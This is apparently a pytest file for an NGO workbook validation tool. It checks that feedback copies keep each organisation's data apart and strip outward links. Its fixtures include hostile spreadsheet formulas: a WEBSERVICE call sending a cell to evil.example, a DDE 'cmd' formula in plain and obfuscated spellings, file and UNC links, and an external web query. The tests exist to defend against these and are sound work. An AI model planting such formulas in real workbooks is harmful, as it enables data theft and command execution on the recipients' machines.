"""Feedback copies never send one NGO's data to another, and never lose an NGO's sheet.

Issue 16, items 1 and 2: returned files that share a name (every NGO that keeps
the default name), a feedback folder inside the returned files, and an NGO's own
sheet called ``_feedback``.
"""

from __future__ import annotations

import hashlib
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from kuk_xlsx.build.workbook import Organisation, build_workbook
from kuk_xlsx.checks.engine import validate
from kuk_xlsx.cli.commands import cli
from kuk_xlsx.outputs.feedback import STATE_SHEET, feedback_targets, write_feedback
from kuk_xlsx.read.reader import read_workbook
from kuk_xlsx.spec.template import Template
from kuk_xlsx.write.safe import OutputError


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def ngo_file(path: Path, name: str, lang: str = "ru") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    return build_workbook(path, lang=lang, org=Organisation(id=name.lower(), name=name))


def test_same_name_in_two_folders_gives_each_ngo_its_own_copy(tmp_path: Path) -> None:
    a = ngo_file(tmp_path / "in/almaty/plan.xlsx", "Alpha")
    b = ngo_file(tmp_path / "in/taraz/plan.xlsx", "Beta")
    before = {p: sha(p) for p in (a, b)}
    fb = tmp_path / "fb"
    result = CliRunner().invoke(
        cli, ["validate", str(tmp_path / "in"), "--feedback", str(fb), "--lang", "ru"]
    )
    assert result.exit_code in (0, 1), result.output
    copies = sorted(p.relative_to(fb).as_posix() for p in fb.rglob("*.xlsx"))
    assert copies == ["almaty/plan.xlsx", "taraz/plan.xlsx"]
    assert read_workbook(fb / "almaty/plan.xlsx").org_name == "Alpha"
    assert read_workbook(fb / "taraz/plan.xlsx").org_name == "Beta"
    assert {p: sha(p) for p in (a, b)} == before
    # the trainer is told where the copies went, in Russian
    assert "Копии с обратной связью (2)" in result.output
    assert "almaty" in result.output and "taraz" in result.output


def test_a_unique_name_keeps_the_flat_layout(tmp_path: Path) -> None:
    a, b = tmp_path / "x/one.xlsx", tmp_path / "y/two.xlsm"
    assert feedback_targets([a, b], tmp_path / "fb") == {
        a: tmp_path / "fb/one.xlsx",
        b: tmp_path / "fb/two.xlsx",
    }


def test_xlsm_and_xlsx_of_one_name_do_not_share_a_copy(tmp_path: Path) -> None:
    x, m = tmp_path / "in/x.xlsx", tmp_path / "in/x.xlsm"
    targets = feedback_targets([x, m], tmp_path / "fb")
    assert targets == {x: tmp_path / "fb/x.xlsx", m: tmp_path / "fb/x.xlsm.xlsx"}


def test_names_differing_only_in_case_are_kept_apart(tmp_path: Path) -> None:
    """Windows and macOS folders ignore case: Plan.xlsx and plan.xlsx are one file there."""
    a, b = tmp_path / "a/Plan.xlsx", tmp_path / "b/plan.xlsx"
    targets = feedback_targets([a, b], tmp_path / "fb")
    assert len({str(t).casefold() for t in targets.values()}) == 2


def test_a_feedback_folder_among_the_returned_files_is_refused(tmp_path: Path) -> None:
    a = ngo_file(tmp_path / "in/a/plan.xlsx", "Alpha")
    b = ngo_file(tmp_path / "in/b/plan.xlsx", "Beta")
    c = ngo_file(tmp_path / "in/b/other.xlsx", "Gamma")
    before = {p: sha(p) for p in (a, b, c)}
    # copies of in/a/plan.xlsx and in/b/other.xlsx into in/b: the first lands on in/b/plan.xlsx
    result = CliRunner().invoke(
        cli, ["validate", str(a), str(c), "--feedback", str(tmp_path / "in/b"), "--lang", "kk"]
    )
    assert result.exit_code == 2
    assert "кіріс файл" in result.output
    assert {p: sha(p) for p in (a, b, c)} == before
    assert sorted(p.name for p in (tmp_path / "in/b").iterdir()) == ["other.xlsx", "plan.xlsx"]


def test_targets_refuse_a_copy_over_any_input(tmp_path: Path) -> None:
    inside = tmp_path / "in/plan.xlsx"
    with pytest.raises(OutputError) as caught:
        feedback_targets([inside], tmp_path / "in")
    assert caught.value.key == "outputs.feedback.over_input"
    assert "заменила бы входной файл" in caught.value.message("ru")


def test_a_file_that_is_not_our_copy_is_never_replaced(tmp_path: Path) -> None:
    """The whole folder `in` is validated into `in/b` (issue 16: the first NGO's copy
    used to replace the second NGO's original): every original stays as it was and
    each copy holds its own NGO.  A file already in the feedback folder that is not
    one of our copies is left alone (that one file gets a message, the others go on)."""
    a = ngo_file(tmp_path / "in/a/plan.xlsx", "Alpha")
    b = ngo_file(tmp_path / "in/b/plan.xlsx", "Beta")
    before = {p: sha(p) for p in (a, b)}
    result = CliRunner().invoke(
        cli, ["validate", str(tmp_path / "in"), "--feedback", str(tmp_path / "in/b")]
    )
    assert result.exit_code in (0, 1), result.output
    assert {p: sha(p) for p in (a, b)} == before
    assert read_workbook(tmp_path / "in/b/a/plan.xlsx").org_name == "Alpha"
    assert read_workbook(tmp_path / "in/b/b/plan.xlsx").org_name == "Beta"

    fb = tmp_path / "fb"
    foreign = ngo_file(fb / "plan.xlsx", "Trainer's own")
    kept = sha(foreign)
    c = ngo_file(tmp_path / "c/other.xlsx", "Gamma")
    result = CliRunner().invoke(
        cli, ["validate", str(a), str(c), "--feedback", str(fb), "--lang", "ru"]
    )
    assert sha(foreign) == kept
    assert "не копия с обратной связью" in result.output
    assert read_workbook(fb / "other.xlsx").org_name == "Gamma"
    # our own copy is replaced on the next run (a trainer re-validates a folder)
    again = CliRunner().invoke(cli, ["validate", str(c), "--feedback", str(fb)])
    assert again.exit_code in (0, 1) and "plan.xlsx" not in again.output


def _step_sheets(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return [n for n in wb.sheetnames if n[:1].isdigit()]
    finally:
        wb.close()


@pytest.mark.parametrize("hidden", [False, True], ids=["visible", "veryHidden-forged"])
def test_an_ngo_sheet_called_feedback_cannot_delete_step_sheets(
    tmp_path: Path, tpl: Template, hidden: bool
) -> None:
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha")
    steps = _step_sheets(src)
    assert len(steps) > 5
    wb = openpyxl.load_workbook(src)
    ws = wb.create_sheet(STATE_SHEET)
    rows = [("kind", "sheet"), ("version", "1")] + [("review", name) for name in steps]
    for row in rows:
        ws.append(row)
    if hidden:
        ws.sheet_state = "veryHidden"
    wb.save(src)
    before = sha(src)

    copy = write_feedback(validate(src, tpl), tmp_path / "fb", "ru", tpl)

    assert _step_sheets(copy) == steps
    assert sha(src) == before
    names = openpyxl.load_workbook(copy, read_only=True).sheetnames
    if not hidden:  # the NGO's own sheet is theirs: it stays, and ours is apart from it
        assert STATE_SHEET in names
    # a second run on the copy finds our record and still keeps every step sheet
    again = write_feedback(validate(copy, tpl), tmp_path / "fb2", "ru", tpl)
    assert _step_sheets(again) == steps


# --- issue 16 item 6: nothing in a copy reaches outside it ----------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_EXTERNAL_LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
    '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
    "</sheetData></sheetDataSet></externalBook></externalLink>"
)
_CONNECTIONS = (
    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<connection id="1" name="Rates" type="4" refreshedVersion="6">'
    '<webPr url="http://evil.example/rates"/></connection></connections>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _with_outward_links(path: Path) -> tuple[str, dict[str, str]]:
    """An NGO workbook whose first step sheet reaches outside: formulas, hyperlinks, an
    externalLink part (a zip-level edit) and a web query.  Returns (sheet, {cell: what})."""
    wb = openpyxl.load_workbook(path)
    sheet = next(n for n in wb.sheetnames if n[:1].isdigit())
    ws = wb[sheet]
    cells = {
        "AZ200": '=WEBSERVICE("http://evil.example/x?d="&A1)',
        "AZ201": '=HYPERLINK("file:///C:/Users/ngo/secret.xlsx","open")',
        "AZ202": "=cmd|' /c calc'!A0",
        "AZ203": "=HYPERLINK(\"#'" + sheet + '\'!A1","back to top")',
        "AZ207": "=[1]Sheet1!A1*2",
    }
    for ref, formula in cells.items():
        ws[ref] = formula
    ws["AZ204"] = "UNC"
    ws["AZ204"].hyperlink = r"\\fileserver\share\budget.xlsx"
    ws["AZ205"] = "local file"
    ws["AZ205"].hyperlink = "file:///C:/Users/ngo/plan.docx"
    ws["AZ206"] = "web page"
    ws["AZ206"].hyperlink = "https://example.org/"
    wb.save(path)

    parts = {}
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        parts = {n: zf.read(n) for n in names}
    rels = {v: k for k, v in openpyxl_sheet_parts(parts).items()}
    part = rels[sheet]
    xml = parts[part].decode()
    # the cached results Excel would have stored: a web answer, and the linked cell's value
    xml = re.sub(
        r'<c r="AZ200"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
        r'<c r="AZ200"\1 t="str"><f>\2</f><v>answer from the web</v></c>',
        xml,
    )
    xml = re.sub(
        r'<c r="AZ207"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
        r'<c r="AZ207"\1><f>\2</f><v>84</v></c>',
        xml,
    )
    assert "answer from the web" in xml and "<v>84</v>" in xml
    parts[part] = xml.encode()
    parts["xl/externalLinks/externalLink1.xml"] = _EXTERNAL_LINK.encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships {_NS}><Relationship Id="rId1" '
        f'Type="{_REL}/externalLinkPath" Target="file:///\\\\fileserver\\share\\budget.xlsx" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    parts["xl/connections.xml"] = _CONNECTIONS.encode()
    wbrels = parts["xl/_rels/workbook.xml.rels"].decode()
    wbrels = wbrels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX1" Type="{_REL}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="rIdX2" Type="{_REL}/connections" Target="connections.xml"/>'
        "</Relationships>",
    )
    parts["xl/_rels/workbook.xml.rels"] = wbrels.encode()
    book = parts["xl/workbook.xml"].decode()
    book = re.sub(
        r"</sheets>",
        '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>',
        book,
        count=1,
    )
    if 'xmlns:r="' not in book.split(">", 2)[1] + book.split(">", 2)[0]:
        book = book.replace("<workbook ", f'<workbook xmlns:r="{_REL}" ', 1)
    parts["xl/workbook.xml"] = book.encode()
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        '<Override PartName="/xl/connections.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
    )
    parts["[Content_Types].xml"] = types.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in names + [n for n in parts if n not in names]:
            zf.writestr(name, parts[name])
    return sheet, cells


def openpyxl_sheet_parts(parts: dict[str, bytes]) -> dict[str, str]:
    """zip part -> sheet name, read from workbook.xml and its rels."""
    book = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    targets = dict(re.findall(r'Id="([^"]+)"[^>]*Target="([^"]+)"', rels))
    targets.update({k: v for v, k in re.findall(r'Target="([^"]+)"[^>]*Id="([^"]+)"', rels)})
    out = {}
    for name, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"', book):
        out["xl/" + targets[rid].lstrip("/").removeprefix("xl/")] = name
    return out


def _outward_rels(path: Path) -> list[str]:
    """Every external target any part of the package still points at."""
    with zipfile.ZipFile(path) as zf:
        return [
            target
            for n in zf.namelist()
            if n.endswith(".rels")
            for target in re.findall(
                r'Target="([^"]+)"[^>]*TargetMode="External"', zf.read(n).decode()
            )
        ]


@pytest.mark.parametrize(
    ("lang", "heading"),
    [
        ("ru", "Ссылки наружу убраны из этой копии"),
        ("kk", "Сыртқа апаратын сілтемелер бұл көшірмеден алынып тасталды"),
        ("en", "Links to outside this workbook were taken out of this copy"),
    ],
)
def test_outward_links_are_taken_out_of_the_copy_and_listed(
    tmp_path: Path, tpl: Template, lang: str, heading: str
) -> None:
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha", lang="ru")
    sheet, cells = _with_outward_links(src)
    assert "file:///C:/Users/ngo/plan.docx" in _outward_rels(src)  # the fixture is hostile
    before = sha(src)

    copy = write_feedback(validate(src, tpl), tmp_path / "fb", lang, tpl)

    assert sha(src) == before
    with zipfile.ZipFile(copy) as zf:
        names = zf.namelist()
    assert not [n for n in names if "externalLink" in n or n == "xl/connections.xml"]
    assert _outward_rels(copy) == ["https://example.org/"]  # a web page link may stay

    wb = openpyxl.load_workbook(copy)
    ws = wb[sheet]
    assert ws["AZ200"].value == "answer from the web"  # the last value, not the formula
    assert ws["AZ207"].value == 84  # read from the other workbook once, kept as a number
    for ref in ("AZ201", "AZ202"):  # no value was saved: the formula's text, inert
        assert ws[ref].data_type == "s" and ws[ref].value == cells[ref]
    assert ws["AZ203"].data_type == "f"  # a link to a place in the same workbook stays
    assert ws["AZ204"].hyperlink is None and ws["AZ205"].hyperlink is None
    assert ws["AZ204"].value == "UNC"  # the text stays, only the link goes
    assert ws["AZ206"].hyperlink.target == "https://example.org/"
    assert not wb._external_links
    live = [
        f"{w.title}!{c.coordinate}"
        for w in wb.worksheets
        for row in w.iter_rows()
        for c in row
        if c.data_type == "f" and re.search(r"WEBSERVICE|\||\[1\]|file:", str(c.value))
    ]
    assert not live

    review = wb.worksheets[0]
    rows = [[c.value for c in row] for row in review.iter_rows()]
    start = next(i for i, r in enumerate(rows) if r[0] == heading)
    listed = [r for r in rows[start + 3 :] if r[2] is not None and r[1] != "" and r[3]]
    listed = listed[: len(cells) + 4]
    where = {r[1] for r in listed if r[1]}
    assert {"AZ200", "AZ201", "AZ202", "AZ204", "AZ205", "AZ207"} <= where
    assert "AZ203" not in where and "AZ206" not in where
    texts = "\n".join(str(v) for r in rows[start:] for v in r if v)
    assert "fileserver" in texts and "Rates" in texts and "http://evil.example/rates" in texts
    assert "WEBSERVICE" in texts
    # the review cells are text: a listed link or formula is never live
    cells_of_review = [c for row in review.iter_rows() for c in row]
    assert not [c for c in cells_of_review if c.data_type == "f"]
    assert all(c.hyperlink.location for c in cells_of_review if c.hyperlink is not None)
    # the copy still reads as that NGO's plan
    assert read_workbook(copy).org_name == "Alpha"
    assert validate(copy, tpl).status != "UNREADABLE"


@pytest.mark.parametrize(
    "written",
    [
        "cmd|' /c calc'!A0",
        "cmd&#124;' /c calc'!A0",  # the pipe as a character reference
        "&#x63;md&#x7C;' /c calc'!A0",
        "<![CDATA[cmd|' /c calc'!A0]]>",  # the formula's text in a CDATA section
        "&#91;1]Sheet1!A1",  # an external reference's bracket, spelt as a reference
    ],
    ids=["plain", "decimal-reference", "hex-reference", "cdata", "bracket-reference"],
)
def test_a_formula_reaching_outside_is_taken_out_however_its_xml_spells_it(
    tmp_path: Path, tpl: Template, written: str
) -> None:
    """The copy never keeps a live DDE or external formula, whether the sheet's XML writes
    it plainly, with character references or inside CDATA (as Excel reads them all)."""
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha", lang="ru")
    with zipfile.ZipFile(src) as zf:  # as built: a file the package writer takes
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheets = openpyxl_sheet_parts(parts)
    part = next(p for p in sorted(sheets) if b"<f>" in parts[p])
    sheet, xml = sheets[part], parts[part].decode()
    ref, formula = re.search(r'<c r="([A-Z]+[0-9]+)"[^>]*><f>([^<]*)</f>', xml).groups()
    parts[part] = xml.replace(f"<f>{formula}</f>", f"<f>{written}</f>", 1).encode()
    with zipfile.ZipFile(src, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)

    copy = write_feedback(validate(src, tpl), tmp_path / "fb", "ru", tpl)

    cell = openpyxl.load_workbook(copy)[sheet][ref]
    assert cell.data_type != "f", cell.value  # inert text (or its last value), never live
    review = openpyxl.load_workbook(copy).worksheets[0]
    assert ref in {c.value for row in review.iter_rows() for c in row}  # and listed


def test_a_workbook_without_outward_links_gets_no_links_section(
    tmp_path: Path, tpl: Template
) -> None:
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha", lang="en")
    copy = write_feedback(validate(src, tpl), tmp_path / "fb", "en", tpl)
    values = [
        c.value for row in openpyxl.load_workbook(copy).worksheets[0].iter_rows() for c in row
    ]
    assert "Links to outside this workbook were taken out of this copy" not in values


def test_x_xlsx_and_x_xlsm_each_get_their_own_copy(tmp_path: Path) -> None:
    x = ngo_file(tmp_path / "in/x.xlsx", "Alpha")
    m = ngo_file(tmp_path / "build/x.xlsx", "Beta").rename(tmp_path / "in/x.xlsm")
    before = {p: sha(p) for p in (x, m)}
    fb = tmp_path / "fb"
    result = CliRunner().invoke(cli, ["validate", str(tmp_path / "in"), "--feedback", str(fb)])
    assert result.exit_code in (0, 1), result.output
    assert sorted(p.name for p in fb.iterdir()) == ["x.xlsm.xlsx", "x.xlsx"]
    assert read_workbook(fb / "x.xlsx").org_name == "Alpha"
    assert read_workbook(fb / "x.xlsm.xlsx").org_name == "Beta"
    assert {p: sha(p) for p in (x, m)} == before


def test_a_forged_record_cannot_remove_an_ngo_sheet_named_like_our_review(
    tmp_path: Path, tpl: Template
) -> None:
    """An NGO's own sheet called 'Обратная связь' (our review sheet's name) and a very
    hidden `_feedback` record naming it: the sheet holds no title of ours, so it stays."""
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha")
    wb = openpyxl.load_workbook(src)
    own = wb.create_sheet("Обратная связь")
    own["A1"] = "Отзывы участников тренинга"
    own["A2"] = "очень полезно"
    record = wb.create_sheet(STATE_SHEET)
    for row in (("kind", "sheet"), ("version", "1"), ("review", "Обратная связь")):
        record.append(row)
    record.sheet_state = "veryHidden"
    wb.save(src)

    copy = write_feedback(validate(src, tpl), tmp_path / "fb", "ru", tpl)

    names = openpyxl.load_workbook(copy).sheetnames
    assert "Обратная связь" in names and "Обратная связь (2)" in names
    kept = openpyxl.load_workbook(copy)["Обратная связь"]
    assert (kept["A1"].value, kept["A2"].value) == ("Отзывы участников тренинга", "очень полезно")
    # our review sheet, beside theirs, is found and replaced on the next run: no stacking
    again = write_feedback(validate(copy, tpl), tmp_path / "fb2", "ru", tpl)
    names = openpyxl.load_workbook(again).sheetnames
    assert names.count("Обратная связь (2)") == 1 and "Обратная связь (3)" not in names
    assert openpyxl.load_workbook(again)["Обратная связь"]["A2"].value == "очень полезно"


@pytest.mark.libreoffice
def test_libreoffice_opens_the_copy_without_outward_links(tmp_path: Path, tpl: Template) -> None:
    try:
        from tests.support import libreoffice as lo
    except ImportError:  # pytest rootdir-relative import (tests/ on sys.path)
        from support import libreoffice as lo  # type: ignore[no-redef]

    lo.require_libreoffice()
    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha")
    sheet, _cells = _with_outward_links(src)
    copy = write_feedback(validate(src, tpl), tmp_path / "fb", "en", tpl)
    resaved = lo.convert(copy, "xlsx", tmp_path / "lo")
    with zipfile.ZipFile(resaved) as zf:
        assert not [n for n in zf.namelist() if "externalLink" in n]
    assert [t for t in _outward_rels(resaved) if not t.startswith("https://")] == []
    ws = openpyxl.load_workbook(resaved, data_only=True)[sheet]
    assert ws["AZ200"].value == "answer from the web"
    assert ws["AZ207"].value == 84


def test_a_far_cell_does_not_make_the_copy_build_the_whole_sheet(
    tmp_path: Path, tpl: Template, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 16, items 13-14: an NGO's extra sheets with a value at A1 and at BZ10000.
    The copy works on the cells that exist, never on the sheets' whole area (780,000
    cells a sheet: ten such sheets took 30 s and 1.9 GB).  Counted, not timed: the
    cells openpyxl makes while the copy is written."""
    from openpyxl.cell.cell import Cell

    path = ngo_file(tmp_path / "in/plan.xlsx", "Alpha")
    wb = openpyxl.load_workbook(path)
    for i in range(3):
        ws = wb.create_sheet(f"Notes {i}")
        ws["A1"] = "notes"
        ws["BZ10000"] = 1
    wb.save(path)
    before = sha(path)
    made = 0
    init = Cell.__init__

    def counted(self: Cell, *args: object, **kwargs: object) -> None:
        nonlocal made
        made += 1
        init(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Cell, "__init__", counted)
    copy = write_feedback(validate(path, tpl), tmp_path / "fb", "ru", tpl)
    monkeypatch.undo()
    assert sha(path) == before
    assert {"Notes 0", "Notes 1", "Notes 2"} <= set(openpyxl.load_workbook(copy).sheetnames)
    # the workbook has a few thousand cells; one sheet's whole area is 780,000
    assert made < 50_000, made


def test_libreoffice_s_empty_last_row_does_not_stop_a_feedback_copy(
    tmp_path: Path, tpl: Template
) -> None:
    """Issue 15: after a row deletion LibreOffice writes an empty row 1048576 (and a
    dimension to it); an empty row is no data, so the copy is written.  A value
    placed in that row still stops it (openpyxl would build the sheet to it)."""
    import io as _io

    src = ngo_file(tmp_path / "in/plan.xlsx", "Alpha")
    data = src.read_bytes()
    with zipfile.ZipFile(_io.BytesIO(data)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))

    def with_row(row: bytes) -> bytes:
        xml = re.sub(
            rb'<dimension ref="([A-Z]+[0-9]+):[A-Z]+[0-9]+"/>',
            rb'<dimension ref="\1:G1048576"/>',
            parts[sheet],
        )
        out = _io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for n, body in parts.items():
                zf.writestr(
                    n, xml.replace(b"</sheetData>", row + b"</sheetData>") if n == sheet else body
                )
        return out.getvalue()

    empty = tmp_path / "in/lo.xlsx"
    empty.write_bytes(
        with_row(b'<row r="1048576" customFormat="false" ht="12.8" hidden="false"></row>')
    )
    copy = write_feedback(validate(empty, tpl), tmp_path / "fb", "ru", tpl)
    assert copy.exists()
    placed = tmp_path / "in/lo_value.xlsx"
    placed.write_bytes(with_row(b'<row r="1048576"><c><v>1</v></c></row>'))
    with pytest.raises(OutputError):
        write_feedback(validate(placed, tpl), tmp_path / "fb2", "ru", tpl)
